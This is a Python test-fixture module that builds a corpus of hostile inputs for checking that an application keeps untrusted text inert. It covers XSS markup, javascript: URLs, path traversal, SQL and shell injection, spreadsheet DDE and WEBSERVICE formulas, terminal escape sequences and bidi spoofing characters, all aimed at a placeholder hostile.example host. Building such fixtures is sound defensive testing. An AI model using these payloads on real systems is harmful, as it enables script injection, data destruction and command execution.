"""Texts that would do something where they are shown, if they were taken for more than text.

Each is made of a row of the tables below, so a new trick is one line. Whatever runs calls
`hostile`, whatever is made carries `data-hostile`, whatever is asked for lies at hostile.example:
that is what the tests look for. Bytes that are no UTF-8 are Python's lone surrogates here.
"""

from __future__ import annotations

from dataclasses import dataclass

# What markup could be left by, and what it would then make.
BEFORE = (
    "",
    '">',
    "'>",
    "</script>",
    "</style></title></textarea>",
    "-->]]>",
    "&lt;b&gt;",
    "\\u003c",
)
MADE = (
    "<img src=x data-hostile onerror=hostile(1)>",
    "<svg data-hostile onload=hostile(1)>",
    "<script data-hostile>hostile(1)</script>",
    "<script src=//hostile.example/a.js data-hostile></script>",
    '<iframe data-hostile srcdoc="<script>parent.hostile(1)</script>"></iframe>',
    "<iframe data-hostile src=javascript:parent.hostile(1)></iframe>",
    "<object data-hostile data=//hostile.example/a.swf></object>",
    "<embed data-hostile src=//hostile.example/a.svg>",
    "<body data-hostile onload=hostile(1) onpageshow=hostile(1)>",
    "<video data-hostile><source onerror=hostile(1)></video>",
    "<audio data-hostile src=x onerror=hostile(1)>",
    "<details data-hostile open ontoggle=hostile(1)>x</details>",
    "<input data-hostile autofocus onfocus=hostile(1)>",
    "<a data-hostile href=javascript:hostile(1)>x</a>",
    "<base data-hostile href=//hostile.example/>",
    '<meta data-hostile http-equiv=refresh content="0;url=//hostile.example/">',
    "<link data-hostile rel=stylesheet href=//hostile.example/a.css>",
    "<style data-hostile>@import '//hostile.example/b.css';*{color:red}</style>",
    "<form data-hostile action=//hostile.example/><button autofocus>x</form>",
    "<marquee data-hostile onstart=hostile(1)>x</marquee>",
    "<template data-hostile><img src=x onerror=hostile(1)></template>",
    '<noscript><p title="</noscript><img src=x data-hostile onerror=hostile(1)>">',
    "<svg><style><img src=x data-hostile onerror=hostile(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x data-hostile onerror=hostile(1)>",
    "<svg><a data-hostile xlink:href=javascript:hostile(1)><text>x</text></a></svg>",
    "<div data-hostile style=position:fixed;background:url(//hostile.example/c.png)>x</div>",
    "<ScRiPt data-hostile >hostile(1)</sCrIpT >",
    "<img/src=`x`\tdata-hostile\fonerror=hostile(1)//>",
    "<<img src=x data-hostile onerror=hostile(1)//<",
    "<x-hostile data-hostile onclick=hostile(1)>x</x-hostile>",
)

# Where an address, a template, a script, a key of an object, SQL or a format is what reads it.
READ = (
    "javascript:hostile(1)",
    "jAvAsCrIpT:hostile(1)//",
    " javascript:hostile(1)",
    "java\tscript:hostile(1)",
    "javascript&colon;hostile(1)",
    "data:text/html,<script data-hostile>parent.hostile(1)</script>",
    "vbscript:hostile(1)",
    "blob:null/hostile",
    "//hostile.example/d",
    "https://hostile.example/?q=1#x",
    "\\\\hostile.example\\share",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/workflow/00000000-0000-0000-0000-000000000000?sel=x",
    "?a=1&b=2#c",
    "'-hostile(1)-'",
    '"-hostile(1)-"',
    "';hostile(1);//",
    "\\';hostile(1);//",
    "`${hostile(1)}`",
    "${hostile(1)}",
    "#{hostile(1)}",
    "{{hostile(1)}}",
    "{{constructor.constructor('hostile(1)')()}}",
    "{@html '<img src=x data-hostile onerror=hostile(1)>'}",
    "<%= hostile(1) %>",
    "%DATA%",
    "%SCRIPT%",
    "%s%n%x%p{0}{0.__class__}",
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "$object",
    "$float",
    "$unkept",
    "null",
    "undefined",
    "NaN",
    "true",
    "1e999",
    "",
    " ",
    '{"$float":"nan"}',
    '["a","b"]',
    "[object Object]",
    "'; DROP TABLE task_slots; --",
    '" OR 1=1 --',
    "') UNION SELECT 1 --",
    "$$;COPY task TO '/tmp/hostile';$$",
    'a"."b',
    "status:failed OR used.x>1",
    "[x](javascript:hostile(1))",
    "![x](//hostile.example/e.png)",
    "<javascript:hostile(1)>",
    "| a | b |\n|---|---|\n| x | y |",
    "```\n# x\n```",
    "# x\n\n* y\n\n---\n",
    "[a]: //hostile.example/f 'x'",
    "$(touch /tmp/hostile)",
    "`touch /tmp/hostile`",
    "; touch /tmp/hostile #",
    "-rf",
    "--help",
    "--allow-write",
)

# What a spreadsheet would compute.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://hostile.example/?"&A1,"open")',
    '=IMPORTXML("http://hostile.example","//a")',
    '=WEBSERVICE("http://hostile.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '"=1+1"',
    '","=1+1","',
    ';=1+1;"',
    "x\n=1+1",
    "x\r\n=1+1,2",
    "\0=1+1",
    "\ufeff=1+1",
    "+-1",
    "-1",
    "+5e3",
)

# What a terminal would do.
ESC, C1_CSI, C1_OSC, C1_DCS, ST = "\x1b", "\x9b", "\x9d", "\x90", "\x1b\\"
TERMINAL = (
    f"{ESC}[31mred",
    f"{ESC}[2J{ESC}[H",
    f"{ESC}[3J",
    f"{ESC}[1A{ESC}[2Khidden",
    f"{ESC}[6n",
    f"{ESC}[c",
    f"{ESC}[?1049h",
    f"{ESC}[?25l",
    f"{ESC}[?1000h{ESC}[?1003h",
    f"{ESC}[?2004h",
    f"{ESC}[4;1;1t",
    f"{ESC}[21t",
    f"{ESC}[8m invisible",
    f"{ESC}[20;20Hx",
    f"{ESC}[1;3r",
    f"{ESC}[1{ESC}[31mx",
    f"{ESC}{ESC}[31mx",
    f"{ESC}[",
    f"{ESC}[38;5",
    f"{ESC}",
    f"{ESC}]0;hostile\a",
    f"{ESC}]2;hostile{ST}",
    f"{ESC}]8;;http://hostile.example{ST}x{ESC}]8;;{ST}",
    f"{ESC}]52;c;aG9zdGlsZQ=={ST}",
    f"{ESC}]1337;File=inline=1:aG9zdGlsZQ==\a",
    f"{ESC}]4;0;#000000\a",
    f"{ESC}]9;hostile\a",
    f"{ESC}]777;notify;a;b\a",
    f"{ESC}]0;never closed",
    f"{ESC}]0;x{ESC}[31my",
    f'{ESC}P$q"p{ST}',
    f"{ESC}P+q544e{ST}",
    f"{ESC}Pq#0;2;0;0;0#0~~{ST}",
    f"{ESC}_Ghostile{ST}",
    f"{ESC}^private{ST}",
    f"{ESC}Xstart{ST}",
    f"{ESC}kname{ST}",
    f"{ESC}c",
    f"{ESC}7{ESC}8",
    f"{ESC}#8",
    f"{ESC}(0lqqk",
    f"{ESC}%G",
    f"{ESC}M{ESC}D{ESC}E",
    f"{ESC}\nx",
    f"{ESC}\x9b31m",
    f"{C1_CSI}31mred",
    f"{C1_CSI}2J",
    f"{C1_OSC}0;hostile\x9c",
    f"{C1_DCS}q\x9c",
    "\x84\x85\x8d\x8e\x8f\x98\x9e\x9f",
    "\a\a\a",
    "over\b\b\b\bwritten",
    "shown\rhidden",
    "a\vb\fc",
    "\x0e\x0fshift",
    "\x11\x13flow",
    "\x04\x1a",
    "\x7f\x7f",
    "\x01\x02\x03\x05\x06",
    "".join(map(chr, range(32))),
)

# What changes how the text around it reads.
WRITING = (
    "\u202eexe.fdp",
    "a\u202db",
    "\u202aleft\u202c",
    "\u202bright\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "\u2067/*never closed",
    "\u200e\u200f\u061c",
    "access = 'user\u202e \u2066// admin\u2069 \u2066'",
    "\u05d0\u05d1\u05d2 1 2 \u0627\u0628",
    "a\u2028b\u2029c",
    "a\u0085b",
    "a\u200b\u200c\u200d\u2060b",
    "\ufeff",
    "\ufff9a\ufffab\ufffb",
    "\ufffe\uffff",
    "\U000e0041\U000e0042\U000e007f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 20,
    "\u0430dmin",
    "\ufdfa\ufdfb",
    "\u0e48" * 300,
    "\U0010ffff",
    "\ue000\uf8ff",
    "\u3164",
    "\u2800",
)

# Bytes that UTF-8 does not have, and those that end a text elsewhere.
BYTES = (
    b"\0",
    b"before\0after",
    b"\0<img src=x data-hostile onerror=hostile(1)>",
    b"\xc0\xaf..\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xf0\x80\x80\xaf",
    b"\xc0\xbcscript data-hostile>hostile(1)</script>",
    b"\xff\xfe",
    b"\x80",
    b"\x9b31mred",
    b"\x9d0;hostile\x9c",
    b"\xe2\x82",
    b"\xf0\x9f\x98",
    b"a\xe2\x28\xa1b",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xfc\x84\x80\x80\x80\x80",
    b"latin \xe9t\xe9",
    b"\xc2",
    b"\x1b[3\xff1mred",
)

LONG = (
    "<img src=x data-hostile onerror=hostile(1)>" * 500,
    "=1+" * 8_000,
    f"{ESC}[31m" * 4_000,
    "\u202e" * 6_000,
    "x" * 60_000,
    "a " * 20_000,
    "\n" * 5_000,
    "(" * 20_000,
    "<" * 20_000,
)


@dataclass(frozen=True)
class Payload:
    family: str
    text: str

    @property
    def raw(self) -> bytes:
        """The bytes that a C program would hand over."""
        return self.text.encode("utf-8", "surrogateescape")

    @property
    def is_unicode(self) -> bool:
        return self.text.encode("utf-8", "replace").decode() == self.text


def _of(family: str, texts: list[str] | tuple[str, ...]) -> list[Payload]:
    return [Payload(family, text) for text in texts]


PAYLOADS = (
    _of("markup", [before + made for before in BEFORE for made in MADE])
    + _of("read", READ)
    + _of("formula", FORMULAS)
    + _of("terminal", TERMINAL)
    + _of("writing", WRITING)
    + _of("bytes", [raw.decode("utf-8", "surrogateescape") for raw in BYTES])
    + _of("long", LONG)
)

assert len({payload.text for payload in PAYLOADS}) == len(PAYLOADS) >= 300
